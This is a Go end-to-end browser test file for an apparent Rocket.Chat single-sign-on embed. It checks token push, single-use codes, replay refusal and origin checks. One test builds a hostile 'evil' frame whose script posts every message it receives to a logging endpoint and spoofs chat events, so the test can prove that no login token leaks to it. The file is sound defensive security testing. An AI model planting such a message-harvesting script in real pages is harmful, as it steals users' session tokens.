package e2e

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// hostPage is a website page with rcsso's embed.js and one element; it
// records the element's events in window.__events.
func hostPage(ssoURL, rcURL, attrs string) string {
	return fmt.Sprintf(`<!doctype html><title>host</title>
<script src="%s/embed.js"></script>
<rocketchat-embed id="chat" rocketchat="%s" %s style="height:400px"></rocketchat-embed>
<script>
window.__events = [];
for (const n of ["Custom_Script_Logged_In", "Custom_Script_Logged_Out", "startup", "unread-changed", "room-opened", "rcsso-token-sent", "rcsso-error", "rcsso-not-logged-in"]) {
  document.getElementById("chat").addEventListener(n, e => window.__events.push(n + (e.detail !== undefined && e.detail !== null && typeof e.detail !== "object" ? ":" + e.detail : "")));
}
</script>`, ssoURL, rcURL, attrs)
}

// Host push flow, same site: the host page gets the token with a
// first-party fetch and pushes it into the chat; Rocket.Chat's own iframe
// authentication is off, so this is the only way in.
func TestHostPushSameSite(t *testing.T) {
	e := newEnv(t, envOptions{noIframeAuth: true, hostPush: true})
	ctx := e.browser()
	e.websiteLogin(ctx)
	url := e.www.page("/app", hostPage(e.ssoURL, e.rcURL, ``))
	if err := chromedp.Do(ctx, chromedp.Navigate(url)); err != nil {
		t.Fatal(err)
	}
	if err := e.iframeWaitText(ctx, "#chat iframe", "#rc-status", "logged-in"); err != nil {
		t.Fatalf("the embedded chat did not sign in: %v", err)
	}
	e.waitEval(ctx, `window.__events.includes("Custom_Script_Logged_In")`)
	if name, _ := e.iframeText(ctx, "#chat iframe", "#rc-username"); name != "alice" {
		t.Fatalf("signed in as %q", name)
	}
	// go() drives the chat; room-opened comes back as a DOM event.
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[any](`document.getElementById("chat").go("/channel/general")`)); err != nil {
		t.Fatal(err)
	}
	e.waitEval(ctx, `window.__events.includes("room-opened")`)
}

// signedPost calls a signed rcsso endpoint the way a website back end does.
func (e *env) signedPost(path string, body any) (*http.Response, []byte) {
	e.t.Helper()
	raw, _ := json.Marshal(body)
	ts := strconv.FormatInt(time.Now().Unix(), 10)
	m := hmac.New(sha256.New, []byte(webhookSecret))
	m.Write([]byte(ts + "." + string(raw)))
	req, _ := http.NewRequest("POST", strings.Replace(e.ssoURL, "sso.example.test", "127.0.0.1", 1)+path, bytes.NewReader(raw))
	req.Header.Set("X-Rcsso-Timestamp", ts)
	req.Header.Set("X-Rcsso-Signature", "v1="+hex.EncodeToString(m.Sum(nil)))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer resp.Body.Close()
	var buf bytes.Buffer
	_, _ = buf.ReadFrom(resp.Body)
	return resp, buf.Bytes()
}

// Host push flow, cross site: the website's back end gets a single-use code
// for the person and the host page's origin; the page redeems it. No rcsso
// cookie is involved at all. A replayed code, or one used by another
// origin, gets nothing.
func TestHostPushCrossSiteCode(t *testing.T) {
	e := newEnv(t, envOptions{noIframeAuth: true, hostPush: true})
	newCode := func(origin string) string {
		resp, body := e.signedPost("/embed/codes", map[string]any{"source": "shop", "id": "c-7", "origin": origin,
			"username": "carla", "name": "Carla Shop", "email": "carla@other.test", "email_verified": true})
		if resp.StatusCode != 200 {
			t.Fatalf("/embed/codes: %d %s", resp.StatusCode, body)
		}
		var out struct{ Code string }
		_ = json.Unmarshal(body, &out)
		return out.Code
	}
	code := newCode(e.other.URL)
	ctx := e.browser()
	var mu sync.Mutex
	pages := map[string]string{"/a": hostPage(e.ssoURL, e.rcURL, `code="`+code+`"`), "/b": hostPage(e.ssoURL, e.rcURL, `code="`+code+`"`)}
	for path, html := range pages {
		mu.Lock()
		e.other.page(path, html)
		mu.Unlock()
	}
	if err := chromedp.Do(ctx, chromedp.Navigate(e.other.URL+"/a")); err != nil {
		t.Fatal(err)
	}
	// The chat frame is cross-site (its own process): watch its events.
	e.waitEval(ctx, `window.__events.includes("Custom_Script_Logged_In")`)
	if u, ok := e.emu.UserByUsername("carla"); !ok || u.ResumeTokens != 1 || u.Name != "Carla Shop" {
		t.Fatalf("Rocket.Chat user %+v (found %v)", u, ok)
	}
	if s, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.getElementById("chat").outerHTML`)); strings.Contains(s, code) {
		t.Fatal("the code stays in the DOM after use")
	}
	// The same code again, in a fresh browser: refused.
	ctx2 := e.browser()
	if err := chromedp.Do(ctx2, chromedp.Navigate(e.other.URL+"/b")); err != nil {
		t.Fatal(err)
	}
	e.waitEval(ctx2, `window.__events.some(x => x.startsWith("rcsso-error"))`)
	if got, _ := chromedp.Run(ctx2, chromedp.Evaluate[bool](`window.__events.includes("Custom_Script_Logged_In") || window.__events.includes("rcsso-token-sent")`)); got {
		t.Fatal("a replayed code logged in")
	}
	// A code in the page URL's fragment works too, and leaves the address bar.
	code3 := newCode(e.other.URL)
	e.other.page("/frag", hostPage(e.ssoURL, e.rcURL, ``))
	ctx4 := e.browser()
	if err := chromedp.Do(ctx4, chromedp.Navigate(e.other.URL+"/frag#rcsso_code="+code3)); err != nil {
		t.Fatal(err)
	}
	e.waitEval(ctx4, `window.__events.includes("Custom_Script_Logged_In")`)
	if href, _ := chromedp.Run(ctx4, chromedp.Evaluate[string](`location.href`)); strings.Contains(href, code3) {
		t.Fatalf("the code stayed in the URL: %s", href)
	}
	// A code issued for www.other.test, presented by www.example.test: refused.
	code2 := newCode(e.other.URL)
	e.www.page("/steal", hostPage(e.ssoURL, e.rcURL, `code="`+code2+`"`))
	ctx3 := e.browser()
	if err := chromedp.Do(ctx3, chromedp.Navigate(e.www.URL+"/steal")); err != nil {
		t.Fatal(err)
	}
	e.waitEval(ctx3, `window.__events.some(x => x.startsWith("rcsso-error"))`)
}

// The host page ignores messages that do not come from Rocket.Chat's frame,
// and the token is never delivered to a frame of another origin.
func TestHostPushOriginChecks(t *testing.T) {
	e := newEnv(t, envOptions{noIframeAuth: true, hostPush: true})
	var mu sync.Mutex
	var leaked []string
	e.evil.mux.HandleFunc("POST /log", func(w http.ResponseWriter, r *http.Request) {
		var buf bytes.Buffer
		_, _ = buf.ReadFrom(r.Body)
		mu.Lock()
		leaked = append(leaked, buf.String())
		mu.Unlock()
	})
	e.evil.page("/frame", `<!doctype html><title>evil</title><script>
window.addEventListener("message", e => fetch("/log", {method: "POST", body: JSON.stringify(e.data)}));
// Pretend to be Rocket.Chat talking to the host page.
parent.postMessage({eventName: "unread-changed", data: 99}, "*");
</script>`)
	ctx := e.browser()
	e.websiteLogin(ctx)
	page := hostPage(e.ssoURL, e.rcURL, ``) + `<iframe id="evil" src="` + e.evil.URL + `/frame"></iframe>`
	if err := chromedp.Do(ctx, chromedp.Navigate(e.www.page("/app", page))); err != nil {
		t.Fatal(err)
	}
	if err := e.iframeWaitText(ctx, "#chat iframe", "#rc-status", "logged-in"); err != nil {
		t.Fatal(err)
	}
	if got, _ := chromedp.Run(ctx, chromedp.Evaluate[bool](`window.__events.includes("unread-changed:99")`)); got {
		t.Fatal("a message from another frame was dispatched as a Rocket.Chat event")
	}
	// Navigate the chat frame to the evil origin, then ask for a new push:
	// the token is addressed to Rocket.Chat's origin and must not arrive.
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[any](`document.querySelector("#chat iframe").src = "`+e.evil.URL+`/frame"`)); err != nil {
		t.Fatal(err)
	}
	e.waitEval(ctx, `(() => { try { document.querySelector("#chat iframe").contentWindow.location.href; return false } catch (e) { return true } })()`)
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[any](`document.getElementById("chat").login()`)); err != nil {
		t.Fatal(err)
	}
	e.waitEval(ctx, `window.__events.filter(x => x === "rcsso-token-sent").length >= 2`)
	mu.Lock()
	defer mu.Unlock()
	for _, m := range leaked {
		if strings.Contains(m, "login-with-token") || strings.Contains(m, "token") {
			t.Fatalf("a token reached a frame of another origin: %s", m)
		}
	}
}

// README's <rocketchat-embed> snippet, pasted as written into a page with
// no style of its own, gives a chat a person can use (an iframe's default
// height is 150 px), and a page's own height still wins.
func TestReadmeEmbedSnippet(t *testing.T) {
	readme, err := os.ReadFile("../README.md")
	if err != nil {
		t.Fatal(err)
	}
	var snippet string
	for _, block := range strings.Split(string(readme), "```html\n")[1:] {
		block, _, _ = strings.Cut(block, "```")
		if strings.Contains(block, "<rocketchat-embed") {
			snippet = block
			break
		}
	}
	if snippet == "" {
		t.Fatal("README.md has no html block with <rocketchat-embed>")
	}
	e := newEnv(t, envOptions{noIframeAuth: true, hostPush: true})
	snippet = strings.NewReplacer("https://sso.example.com", e.ssoURL, "https://chat.example.com", e.rcURL).Replace(snippet)
	ctx := e.browser()
	e.websiteLogin(ctx)
	// A grey page shows where the chat ends in the screenshot.
	pasted := e.www.page("/pasted", "<!doctype html><title>pasted</title><style>body{background:#ccc}</style>\n"+snippet)
	if err := chromedp.Do(ctx, chromedp.EmulateViewport(1280, 800), chromedp.Navigate(pasted)); err != nil {
		t.Fatal(err)
	}
	if err := e.iframeWaitText(ctx, "rocketchat-embed iframe", "#rc-status", "logged-in"); err != nil {
		t.Fatalf("the pasted snippet's chat did not sign in: %v", err)
	}
	e.screenshot(ctx, "embed-readme-snippet.png")
	if h, _ := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelector("rocketchat-embed iframe").clientHeight`)); h < 400 {
		t.Errorf("the pasted snippet's chat is %d px tall, want at least 400", h)
	}
	if w, _ := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelector("rocketchat-embed iframe").clientWidth`)); w < 1000 {
		t.Errorf("the pasted snippet's chat is %d px wide in a 1280 px window", w)
	}
	// The page's own size wins over the element's default.
	styled := e.www.page("/styled", "<!doctype html><title>styled</title><style>rocketchat-embed{height:300px}</style>\n"+snippet)
	if err := chromedp.Do(ctx, chromedp.Navigate(styled)); err != nil {
		t.Fatal(err)
	}
	e.waitEval(ctx, `!!document.querySelector("rocketchat-embed iframe") && document.querySelector("rocketchat-embed iframe").clientHeight === 300`)
}
